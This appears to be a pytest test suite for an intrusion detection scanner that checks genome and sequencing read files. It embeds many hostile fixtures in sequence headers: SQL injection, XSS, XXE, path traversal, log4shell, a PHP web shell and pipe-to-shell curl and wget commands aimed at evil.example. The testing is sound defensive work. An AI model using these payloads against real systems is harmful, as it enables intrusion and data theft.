"""The IDS core: real sequencing files pass untouched, hostile content is caught and located."""

from __future__ import annotations

import base64
import gzip
import io
import random
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from security.ids import (
    COMMAND_INJECTION,
    CONTROL_BYTES,
    DATA_BEFORE_HEADER,
    EMBEDDED_BINARY,
    HTML_INJECTION,
    NON_IUPAC_SEQUENCE,
    NON_NUCLEOTIDE_ALPHABET,
    OVERSIZED_HEADER,
    OVERSIZED_LINE,
    PATH_TRAVERSAL,
    PHP_INJECTION,
    SCRIPT_INJECTION,
    SIGNATURE_FLOOD,
    SQL_INJECTION,
    TEMPLATE_INJECTION,
    THREAT_TYPES,
    IdsLimits,
    IdsReport,
    scan,
)

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"
BAD_INPUTS = DATA / "badinputs"


def read_decompressed(path: Path) -> bytes:
    # The pipeline decompresses before the IDS runs; gzip.open reads multi-member files whole.
    if path.suffix == ".gz":
        with gzip.open(path, "rb") as handle:
            return handle.read()
    return path.read_bytes()


def scan_bytes(data: bytes, **kwargs: object) -> IdsReport:
    return scan(io.BytesIO(data), **kwargs)


def located(report: IdsReport) -> set[tuple[str, int | None, int]]:
    return {(finding.threat_type, finding.record, finding.line) for finding in report.findings}


def real_elf_header() -> bytes:
    header = Path(sys.executable).resolve().read_bytes()[:512]
    if not header.startswith(b"\x7fELF"):
        pytest.skip("the Python interpreter is not an ELF binary on this system")
    return header


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        entry = zipfile.ZipInfo("payload.sh", date_time=(2020, 1, 1, 0, 0, 0))
        archive.writestr(entry, "#!/bin/sh\nid\n")
    return buffer.getvalue()


# A clean first record, so that every hostile case also checks the record number.
CLEAN_FASTA = b">seq1 clean record\nACGTACGTAC\n"
CLEAN_FASTQ = b"@read1 clean\nACGTACGTAC\n+\nIIIIIIIIII\n"


def fasta_with_header(header: bytes) -> bytes:
    return CLEAN_FASTA + b">" + header + b"\nACGTACGT\n"


# --------------------------------------------------------------------------------------------
# The CASES.md file and the real data


def test_it_flags_only_record_one_of_the_injection_header_file() -> None:
    with open(BAD_INPUTS / "26_injection_header.fa", "rb") as handle:
        report = scan(handle)

    assert not report.passed
    assert report.records_scanned == 2
    assert {finding.record for finding in report.findings} == {1}
    assert {finding.line for finding in report.findings} == {1}
    assert {COMMAND_INJECTION, SQL_INJECTION, SCRIPT_INJECTION, HTML_INJECTION} <= set(
        report.threat_types
    )
    patterns = {finding.pattern for finding in report.findings}
    assert {"$(", "`id", "drop table", "<script"} <= patterns


REAL_FILES = sorted(
    path
    for folder in ("genomes", "genomes_extra", "fastq")
    for path in (DATA / folder).rglob("*")
    if path.is_file() and path.suffix in {".fa", ".fasta", ".fna", ".fq", ".fastq", ".gz"}
)


def test_the_real_data_is_there() -> None:
    assert len(REAL_FILES) >= 50


@pytest.mark.parametrize("path", REAL_FILES, ids=lambda path: str(path.relative_to(DATA)))
def test_it_passes_every_real_genome_and_read_file(path: Path) -> None:
    data = read_decompressed(path)

    report = scan_bytes(data)

    assert report.findings == []
    assert report.passed
    assert report.bytes_scanned == len(data)
    assert report.records_scanned >= 1


def test_it_counts_reads_not_quality_lines_that_start_with_at() -> None:
    data = (DATA / "fastq" / "novaseq_800_reads_phred33.fq").read_bytes()

    report = scan_bytes(data)

    assert report.passed
    assert report.format == "fastq"
    assert report.records_scanned == 800


PARSER_CASES = {
    # file: records; these are the parser's to accept or refuse, never the IDS's
    "01_crlf.fq": 2,
    "03_utf8_bom.fa": 2,
    "05_empty_seq.fa": 3,
    "05b_empty_read.fq": 2,
    "07_softmasked.fa": 1,
    "08_iupac_gaps.fa": 2,
    "11_multiline.fq": 2,
    "13_len_mismatch.fq": 3,
    "14_phred64.fq": 2,
    "15_truncated.fq": 2,
    "16_no_final_newline.fq": 2,
    "16b_no_final_newline.fa": 2,
    "18_huge_line.fa": 2,
    "20_blank_lines.fa": 2,
    "23_multimember.fq.gz": 3,
}


@pytest.mark.parametrize(("name", "records"), sorted(PARSER_CASES.items()))
def test_it_leaves_awkward_but_harmless_cases_to_the_parser(name: str, records: int) -> None:
    report = scan_bytes(read_decompressed(BAD_INPUTS / name))

    assert report.findings == []
    assert report.records_scanned == records


def test_the_huge_header_and_line_pass_by_default_and_trip_tightened_limits() -> None:
    data = (BAD_INPUTS / "18_huge_line.fa").read_bytes()
    assert scan_bytes(data).passed

    tight = IdsLimits(max_header_length=10_000, max_line_length=100_000)
    report = scan_bytes(data, limits=tight)

    assert located(report) == {(OVERSIZED_HEADER, 1, 1), (OVERSIZED_LINE, 1, 2)}


# --------------------------------------------------------------------------------------------
# Hostile content: (content, threat type, record, line)

HOSTILE = {
    "sql tautology": (fasta_with_header(b"s2 name' OR '1'='1"), SQL_INJECTION, 2, 3),
    "sql numeric tautology": (fasta_with_header(b"s2 id=1 or 1=1"), SQL_INJECTION, 2, 3),
    "sql union select with tabs": (
        fasta_with_header(b"s2 x UNION\tALL  SELECT pw FROM users"),
        SQL_INJECTION,
        2,
        3,
    ),
    "sql comments as blanks": (
        fasta_with_header(b"s2 x UNION/**/SELECT pw FROM users"),
        SQL_INJECTION,
        2,
        3,
    ),
    "sql drop table": (fasta_with_header(b"s2 x'; DROP TABLE jobs;--"), SQL_INJECTION, 2, 3),
    "sql comment after quote": (fasta_with_header(b"s2 admin'--"), SQL_INJECTION, 2, 3),
    "sql xp_cmdshell": (fasta_with_header(b"s2 exec xp_cmdshell 'dir'"), SQL_INJECTION, 2, 3),
    "script tag": (fasta_with_header(b"s2 <ScRiPt>alert(1)</script>"), SCRIPT_INJECTION, 2, 3),
    "javascript url": (fasta_with_header(b"s2 link=javascript:void(0)"), SCRIPT_INJECTION, 2, 3),
    "tab inside javascript:": (
        fasta_with_header(b"s2 <a href='java\tscript:steal()'>"),
        SCRIPT_INJECTION,
        2,
        3,
    ),
    "xml external entity": (
        fasta_with_header(b"s2 <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/shadow'>]>"),
        HTML_INJECTION,
        2,
        3,
    ),
    "event handler": (fasta_with_header(b"s2 x onerror =steal()"), SCRIPT_INJECTION, 2, 3),
    "html iframe": (fasta_with_header(b"s2 <iframe src=//evil.example>"), HTML_INJECTION, 2, 3),
    "html img": (fasta_with_header(b"s2 <img src=x>"), HTML_INJECTION, 2, 3),
    "html entities without semicolons": (
        fasta_with_header(b"s2 &ltscript&gtalert(1)"),
        SCRIPT_INJECTION,
        2,
        3,
    ),
    "injection in a fastq read name": (
        CLEAN_FASTQ + b"@read2 `reboot`\nACGT\n+\nIIII\n",
        COMMAND_INJECTION,
        2,
        5,
    ),
    "html entity encoded script": (
        fasta_with_header(b"s2 &lt;script&gt;x&lt;/script&gt;"),
        SCRIPT_INJECTION,
        2,
        3,
    ),
    "path traversal in description": (
        fasta_with_header(b"s2 Homo sapiens source=../../../etc/passwd"),
        PATH_TRAVERSAL,
        2,
        3,
    ),
    "url-encoded path traversal": (
        fasta_with_header(b"s2 file=%2e%2e%2f%2e%2e%2fkeys"),
        PATH_TRAVERSAL,
        2,
        3,
    ),
    "double-encoded path traversal": (
        fasta_with_header(b"s2 file=%252e%252e%252fkeys"),
        PATH_TRAVERSAL,
        2,
        3,
    ),
    "windows traversal": (fasta_with_header(b"s2 ..\\..\\boot.ini"), PATH_TRAVERSAL, 2, 3),
    "command substitution": (fasta_with_header(b"s2 $(id)"), COMMAND_INJECTION, 2, 3),
    "backticks": (fasta_with_header(b"s2 `whoami`"), COMMAND_INJECTION, 2, 3),
    "semicolon rm": (fasta_with_header(b"s2 x; rm -rf /"), COMMAND_INJECTION, 2, 3),
    "pipe to shell": (
        fasta_with_header(b"s2 curl evil.example/x|sh"),
        COMMAND_INJECTION,
        2,
        3,
    ),
    "or id": (fasta_with_header(b"s2 false || id"), COMMAND_INJECTION, 2, 3),
    "and curl": (fasta_with_header(b"s2 x && curl evil.example"), COMMAND_INJECTION, 2, 3),
    "wget url": (fasta_with_header(b"s2 wget https://evil.example/x"), COMMAND_INJECTION, 2, 3),
    "jinja template": (fasta_with_header(b"s2 {{7*7}}"), TEMPLATE_INJECTION, 2, 3),
    "jinja block": (fasta_with_header(b"s2 {% debug %}"), TEMPLATE_INJECTION, 2, 3),
    "log4shell": (fasta_with_header(b"s2 ${jndi:ldap://x/a}"), TEMPLATE_INJECTION, 2, 3),
    "php in a fastq comment line": (
        CLEAN_FASTQ + b"@read2\nACGT\n+<?php system($_GET['c']); ?>\nIIII\n",
        PHP_INJECTION,
        2,
        7,
    ),
    "php short echo tag": (fasta_with_header(b"s2 <?= $x ?>"), PHP_INJECTION, 2, 3),
    "payload in a quality line holding blanks": (
        CLEAN_FASTQ + b"@read2\nACGTACGTACGTACGT\n+\nII; rm -rf /tmp\n",
        COMMAND_INJECTION,
        2,
        8,
    ),
    "payload where the next header should be": (
        CLEAN_FASTQ + b"'; drop table runs;--\n",
        SQL_INJECTION,
        1,
        5,
    ),
    "payload behind CR-only line endings": (
        b">seq1 ok\rACGT\r<script>alert(1)</script>\r",
        SCRIPT_INJECTION,
        1,
        3,
    ),
    "payload in a sequence line": (
        CLEAN_FASTA + b">seq2\nACGT;curl -s evil.example|bash\n",
        COMMAND_INJECTION,
        2,
        4,
    ),
    "windows executable header": (
        CLEAN_FASTA + b">seq2\nACGT\nMZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\n",
        EMBEDDED_BINARY,
        2,
        5,
    ),
    "shebang line": (CLEAN_FASTA + b">seq2\n#!/bin/sh\nACGT\n", EMBEDDED_BINARY, 2, 4),
    "base64 blob in a header": (
        fasta_with_header(b"s2 note=" + base64.b64encode(bytes(range(256)) * 2)),
        EMBEDDED_BINARY,
        2,
        3,
    ),
    "gzip member": (
        CLEAN_FASTA + b">seq2\n" + gzip.compress(b"hidden", mtime=0) + b"\n",
        EMBEDDED_BINARY,
        2,
        4,
    ),
    "zip archive": (CLEAN_FASTA + b">seq2\n" + zip_archive() + b"\n", EMBEDDED_BINARY, 2, 4),
    "control bytes in a sequence line": (
        CLEAN_FASTA + b">seq2\nACGT\nAC\x00GT\n",
        CONTROL_BYTES,
        2,
        5,
    ),
    "escape sequence in a header": (
        fasta_with_header(b"s2 \x1b[2J terminal reset"),
        CONTROL_BYTES,
        2,
        3,
    ),
    "control byte in a quality line": (
        CLEAN_FASTQ + b"@read2\nACGT\n+\nII\x07I\n",
        CONTROL_BYTES,
        2,
        8,
    ),
    "data before the first header": (b"hello\n" + CLEAN_FASTA, DATA_BEFORE_HEADER, None, 1),
    "protein instead of nucleotides": (
        CLEAN_FASTA + b">p53\nMEEPQSDPSVEPPLSQETFSDLWKLLPENNVLSPLPSQAMDDLMLSPDDIEQWFTEDPGP\n",
        NON_NUCLEOTIDE_ALPHABET,
        2,
        3,
    ),
    "text among the bases": (
        CLEAN_FASTA + b">seq2\nACGTACGT\nthis line is not sequence at all\nACGT\n",
        NON_IUPAC_SEQUENCE,
        2,
        5,
    ),
}


@pytest.mark.parametrize(
    ("content", "threat_type", "record", "line"), HOSTILE.values(), ids=HOSTILE.keys()
)
def test_it_detects_hostile_content_with_its_record_and_line(
    content: bytes, threat_type: str, record: int | None, line: int
) -> None:
    report = scan_bytes(content)

    assert not report.passed
    assert (threat_type, record, line) in located(report)
    assert {finding.record for finding in report.findings} == {record}


def test_it_detects_a_real_elf_header_at_a_line_start() -> None:
    report = scan_bytes(CLEAN_FASTA + b">seq2\nACGT\n" + real_elf_header() + b"\nACGT\n")

    assert (EMBEDDED_BINARY, 2, 5) in located(report)
    assert (CONTROL_BYTES, 2, 5) in located(report)
    assert "ELF magic" in {finding.pattern for finding in report.findings}


def test_it_passes_real_genomes_across_read_boundaries_and_locates_a_late_payload() -> None:
    genomes = b"".join(path.read_bytes() for path in REAL_FILES if path.suffix == ".fa")
    clean = genomes * 4  # several MiB: sequence blocks and headers cut by every boundary
    records = clean.count(b">")
    report = scan_bytes(clean)
    assert report.passed
    assert report.records_scanned == records

    hostile = clean + b">late sample; curl -s evil.example | bash\nACGT\n"
    report = scan_bytes(hostile)

    assert located(report) >= {(COMMAND_INJECTION, records + 1, clean.count(b"\n") + 1)}
    assert {finding.record for finding in report.findings} == {records + 1}


def test_a_decoded_line_feed_does_not_move_a_finding_to_another_line() -> None:
    content = b">s1 a%0a%3cscript%3e &#10;&lt;iframe\nACGT\n>s2 fine\nACGT\n"

    report = scan_bytes(content)

    assert located(report) == {(SCRIPT_INJECTION, 1, 1), (HTML_INJECTION, 1, 1)}


@pytest.mark.parametrize("keyword", [b"$(", b"|cat", b"../", b"%41", b"&lt;"])
def test_a_keyword_flood_is_reported_without_examining_every_keyword(keyword: bytes) -> None:
    content = b">" + keyword * (3_000_000 // len(keyword)) + b"\nACGT\n"

    started = time.perf_counter()
    report = scan_bytes(content)
    elapsed = time.perf_counter() - started

    assert (SIGNATURE_FLOOD, 1, 1) in located(report)
    assert elapsed < 5.0, f"{elapsed:.1f} s"


def test_it_reports_lines_after_a_bom_and_crlf_endings() -> None:
    content = b"\xef\xbb\xbf@r1\r\nACGT\r\n+\r\nIIII\r\n@r2 $(reboot)\r\nACGT\r\n+\r\nIIII\r\n"

    report = scan_bytes(content)

    assert located(report) == {(COMMAND_INJECTION, 2, 5)}


@pytest.mark.parametrize("offset", range(-12, 4))
def test_it_sees_a_keyword_cut_by_the_read_boundary_of_a_very_long_line(offset: int) -> None:
    # The scanner reads 1 MiB at a time and hands lines longer than that over in pieces.
    prefix = b">seq1\n"
    filler = 2 * (1 << 20) + offset - len(prefix)
    content = prefix + b"A" * filler + b"*; rm -rf /*" + b"C" * 5000 + b"\n"

    report = scan_bytes(content)

    assert (COMMAND_INJECTION, 1, 2) in located(report)


# --------------------------------------------------------------------------------------------
# Awkward but legitimate headers and qualities

LEGITIMATE_HEADERS = [
    b">gi|12345|ref|NC_000913.3| Escherichia coli str. K-12 substr. MG1655, complete genome",
    b">sp|P04040|CATA_HUMAN Catalase OS=Homo sapiens OX=9606 GN=CAT PE=1 SV=5",
    b">tr|A0A024R161|A0A024R161_HUMAN G protein subunit OS=Homo sapiens GN=DNAJC25-GNG10",
    b">gi|6|ref|NC_007399.1| Python regius mitochondrion, complete genome",
    b">ref | Cat (Felis catus) mitochondrion | Echo 30 strain",
    b">HIV1|env|gp120",
    b">sample|cat|mito",
    b">chloroplast|cp",
    b">gi|1||ref|NC_000001.11| empty field",
    b">contig7\tlength=5000\tcoverage=12.5",
    b">TP53|ID|sh3 domain",
    b">seq1 [organism=Homo sapiens] [chromosome=17] [moltype=genomic DNA]",
    b">contig_1 length=5000; coverage=35.2; gc=0.51; id=ctg1; echo=1",
    b">gene ID=gene1;Name=BRCA1;Note=breast cancer 1, early onset",
    b"@SRR059298.1 HWI-EAS:4:1:1:1#0/1",
    b"@A00129:183:H77K2DMXX:1:1101:6804:1031 1:N:0:CAATGGAA+CGAGGCTG",
    b"@m54006_170329_220711/4194375/ccs",
    b"@8f5c5f8e-3a4b-4c5d-9e6f-0a1b2c3d4e5f runid=abc123 read=42 ch=101 "
    b"start_time=2021-01-01T00:00:00Z",
    b">U00096.3 Escherichia coli (strain K-12) genome",
    b">NM_000546.6 Homo sapiens TP53 mRNA, 5' UTR and 3' UTR, 5' or 3' end",
    b">read1 primer 5'-ACGTACGT-3' (forward) p<0.05 100% identity",
    b">L46634.1 Human herpesvirus 7 (clone ED132'1.2) telomeric repeat region.",
    b">Lactobacillus_reuteri_F275_Kitasato/55_65k.fa Lactobacillus reuteri F275",
    b">AC004629.1 Homo sapiens chromosome 5 [slice 1..100000 of 116019 bp]",
    b">Mus musculus (house mouse) | strain: C57BL/6J | sex: male",
    b">sample-1 lab=R&D barcode=ACGTACGT+TTGCAAGG",
    b">x url=https://www.ncbi.nlm.nih.gov/nuccore/NC_000913 mirror=ftp://ftp.ensembl.org/pub/",
    b">strain K-12 -- complete; chr1--chr2 fusion",
    b">x reads from data/**/sample.fa and data/*.fa",
    b">x sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    b">x probe=" + b"ACGTacgtNNRYACGT" * 20,
    b">Drosophila sleep mutant sleepless; onset=5; selected from union selection",
]


@pytest.mark.parametrize("header", LEGITIMATE_HEADERS, ids=lambda header: header[:40].decode())
def test_it_does_not_flag_awkward_but_legitimate_headers(header: bytes) -> None:
    if header.startswith(b"@"):
        content = header + b"\nACGTACGT\n+" + header[1:] + b"\nIIIIHHHH\n"
    else:
        content = header + b"\nACGTACGT\n"

    report = scan_bytes(content)

    assert report.findings == []


def test_it_never_reads_quality_strings_as_text() -> None:
    # Phred+33 uses every printable character; these would all be signatures in a header.
    qualities = [b"'$(<{`--;|&!", b"{{${%<?=`id`", b"../'or'1'='1", b"@@@@+<%=#!/x"]
    content = b"".join(
        b"@r%d\n%s\n+\n%s\n" % (index, b"ACGT" * 3, quality)
        for index, quality in enumerate(qualities)
    )
    # A wrapped read whose quality lines start with `@` and `+`.
    content += b"@wrapped\nACGTACGTAC\nGTACGT\n+\n@$(IIIIIII\n+{{III\n"

    report = scan_bytes(content)

    assert report.findings == []
    assert report.records_scanned == len(qualities) + 1


# --------------------------------------------------------------------------------------------
# What a finding may say


def test_a_finding_never_carries_the_header_text() -> None:
    content = b">patient_JaneDoe_MRN889123 $(cat /etc/passwd) ' OR 'x'='x\nACGT\n"

    report = scan_bytes(content)

    assert not report.passed
    exported = repr(report.to_dict())
    assert "JaneDoe" not in exported
    assert "889123" not in exported
    assert "patient" not in exported


@pytest.mark.parametrize("content", [case[0] for case in HOSTILE.values()], ids=HOSTILE.keys())
def test_every_pattern_is_a_short_printable_label(content: bytes) -> None:
    for finding in scan_bytes(content).findings:
        assert finding.threat_type in THREAT_TYPES
        assert 0 < len(finding.pattern) <= 40
        assert finding.pattern.isprintable()


def test_the_report_exports_as_json_ready_data() -> None:
    with open(BAD_INPUTS / "26_injection_header.fa", "rb") as handle:
        report = scan(handle)

    exported = report.to_dict()

    assert exported["passed"] is False
    assert exported["records_scanned"] == 2
    assert exported["bytes_scanned"] == (BAD_INPUTS / "26_injection_header.fa").stat().st_size
    assert exported["findings"][0].keys() == {"threat_type", "pattern", "record", "line"}


# --------------------------------------------------------------------------------------------
# Limits


def test_it_stops_at_the_findings_limit_and_says_so() -> None:
    content = b"".join(b">s%d $(reboot)\nACGT\n" % index for index in range(500))

    report = scan_bytes(content, limits=IdsLimits(max_findings=100))

    assert len(report.findings) == 100
    assert report.truncated
    assert not report.passed


def test_a_tolerated_control_byte_passes_when_the_policy_allows_it() -> None:
    content = CLEAN_FASTA + b"\x1a"  # the DOS end-of-file mark some old tools append

    assert located(scan_bytes(content)) == {(CONTROL_BYTES, 1, 3)}
    assert scan_bytes(content, limits=IdsLimits(max_control_bytes=1)).passed


def test_a_few_stray_characters_are_left_to_the_parser_but_many_are_not() -> None:
    content = CLEAN_FASTA + b">seq2\nACGT*ACGT*\nACGT\n"

    assert scan_bytes(content).passed
    report = scan_bytes(content, limits=IdsLimits(max_non_iupac_per_record=1))
    assert located(report) == {(NON_IUPAC_SEQUENCE, 2, 4)}


@pytest.mark.parametrize(
    "bad",
    [
        {"max_header_length": -1},
        {"max_control_bytes": -1},
        {"min_nucleotide_fraction": 1.5},
        {"max_findings": 0},
        {"min_base64_run": 4},
    ],
)
def test_limits_refuse_nonsense_values(bad: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        IdsLimits(**bad)


# --------------------------------------------------------------------------------------------
# Memory and speed


class GeneratedStream(io.RawIOBase):
    """A single-line FASTA of ``size`` bases made while it is read, never held whole."""

    def __init__(self, size: int) -> None:
        self.header = b">chrGenerated single line\n"
        self.remaining = size
        self.unit = b"ACGT" * 16384

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:
        if self.header:
            count = len(self.header)
            buffer[:count] = self.header
            self.header = b""
            return count
        count = min(len(buffer), self.remaining, len(self.unit))
        if count == 0:
            return 0
        buffer[:count] = self.unit[:count]
        self.remaining -= count
        return count


def test_memory_stays_bounded_on_a_line_longer_than_the_buffers() -> None:
    size = 24 * (1 << 20)
    stream = io.BufferedReader(GeneratedStream(size), buffer_size=1 << 16)

    tracemalloc.start()
    try:
        report = scan(stream)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert report.passed
    assert report.bytes_scanned > size
    assert peak < 12 * (1 << 20)


def test_a_50_mb_fastq_scans_in_a_few_seconds() -> None:
    reads = (DATA / "fastq" / "novaseq_800_reads_phred33.fq").read_bytes()
    content = reads * (50_000_000 // len(reads))

    started = time.perf_counter()
    report = scan_bytes(content)
    elapsed = time.perf_counter() - started

    assert report.passed
    assert report.records_scanned == 800 * (50_000_000 // len(reads))
    # About a second on one core; the margin is for shared CI machines.
    assert elapsed < 8.0, f"{elapsed:.1f} s"


def test_random_bytes_never_crash_the_scan() -> None:
    content = random.Random(20260101).randbytes(300_000)

    report = scan_bytes(content)

    assert not report.passed
